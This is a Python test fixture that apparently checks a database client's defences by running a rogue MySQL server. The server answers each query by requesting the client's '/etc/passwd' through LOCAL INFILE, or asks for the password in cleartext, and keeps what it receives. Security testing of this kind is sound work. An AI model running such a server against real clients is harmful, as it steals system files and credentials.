"""A MySQL server that lets everybody in, and wants what is none of its business."""

import socket
import struct
from contextlib import suppress

from keyword_assets_tests.listening import Listening

_FILE_WANTED = b"\xfb"
_OK = b"\x00\x00\x00\x02\x00\x00\x00"
# Protocol 4.1, transactions, secure connections, plugins, LOCAL INFILE; no TLS.
_ABILITIES = 0x00000001 | 0x00000008 | 0x00000080 | 0x00000200 | 0x00002000 | 0x00008000 | 0x00080000


class HostileServer(Listening):
    """Answers each statement by asking for a file; or, before that, asks for the password in the clear.

    Args:
        wants: `file` or `password`.
    """

    def __init__(self, wants: str) -> None:
        self._wants = wants
        self.got = b""
        super().__init__()

    def _serve(self, client: socket.socket) -> None:
        with client, suppress(OSError, struct.error):
            greeting = b"\x0a8.0.36\x00" + struct.pack("<I", 7) + b"abcdefgh\x00"
            greeting += struct.pack("<HBHH", _ABILITIES & 0xFFFF, 45, 2, _ABILITIES >> 16) + bytes([21]) + bytes(10)
            _send(client, greeting + b"ijklmnopqrst\x00mysql_native_password\x00", 0)
            _read(client)
            if self._wants == "password":
                _send(client, b"\xfemysql_clear_password\x00", 2)
                self.got += _read(client)
                return
            _send(client, _OK, 2)
            while (said := _read(client)) and said[:1] == b"\x03":
                _send(client, _FILE_WANTED + b"/etc/passwd", 1)
                self.got += _read(client)
                _send(client, _OK, 3)


def _send(client: socket.socket, payload: bytes, number: int) -> None:
    client.sendall(len(payload).to_bytes(3, "little") + bytes([number]) + payload)


def _read(client: socket.socket) -> bytes:
    head = client.recv(4, socket.MSG_WAITALL)
    return client.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL) if len(head) == 4 else b""
